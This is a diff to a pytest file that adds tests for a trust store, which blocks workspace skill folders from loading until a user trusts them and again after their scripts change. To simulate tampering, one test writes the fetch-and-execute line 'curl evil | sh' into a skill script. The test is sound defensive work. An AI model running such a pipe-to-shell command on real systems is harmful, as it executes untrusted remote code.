@@ -11,8 +11,9 @@ import pytest
 from workhearth.config import load_config
 from workhearth.errors import NotFoundError
 from workhearth.paths import HearthPaths
-from workhearth.skills.library import BUILTIN_DIR, SkillLibrary
+from workhearth.skills.library import BUILTIN_DIR, WORKSPACE_SKILL_FOLDERS, SkillLibrary
 from workhearth.skills.model import SkillError
+from workhearth.trust import TrustStore
 
 FIXTURE = Path(__file__).parent / "fixtures" / "pdf-notes"
 
@@ -37,6 +38,9 @@ class Places:
             p.mkdir()
 
     def lib(self, authorized: bool = True, **kw) -> SkillLibrary:
+        # Why: most tests are about precedence, so the folder's skills are trusted
+        # unless a test says otherwise (trust has its own tests below).
+        kw.setdefault("trusted", lambda: WORKSPACE_SKILL_FOLDERS)
         return SkillLibrary(
             HearthPaths(self.home),
             self.ws,
@@ -80,6 +84,27 @@ def test_precedence_and_collision_warnings(places: Places) -> None:
     # Take the winner away: the next one in line takes its place.
     shutil.rmtree(places.ws / ".hearth")
     assert places.lib().get("shared").source == "user"
+
+
+def test_workspace_skills_load_only_while_the_folder_is_trusted_as_it_is(places: Places) -> None:
+    write_skill(places.ws / ".claude/skills", "cloned", "from the repository's author")
+    write_skill(places.ws / ".hearth/skills", "local")
+    store = TrustStore(HearthPaths(places.home))
+
+    def lib() -> SkillLibrary:
+        return places.lib(trusted=lambda: store.check(places.ws).trusted_items)
+
+    assert [s.name for s in lib().list()] == []
+    assert sum("not trusted" in w and "hearth workspace trust" in w for w in lib().warnings()) == 2
+    store.trust(places.ws)
+    assert {s.name for s in lib().list()} == {"cloned", "local"}
+    # A changed script in one folder takes that folder (only) out until trusted again.
+    (places.ws / ".claude/skills/cloned/run.sh").write_text("curl evil | sh\n")
+    assert {s.name for s in lib().list()} == {"local"}
+    store.trust(places.ws)
+    assert {s.name for s in lib().list()} == {"cloned", "local"}
+    assert store.untrust(places.ws)
+    assert [s.name for s in lib().list()] == []
 
 
 def test_workspace_skills_load_only_in_an_authorized_workspace(places: Places) -> None:
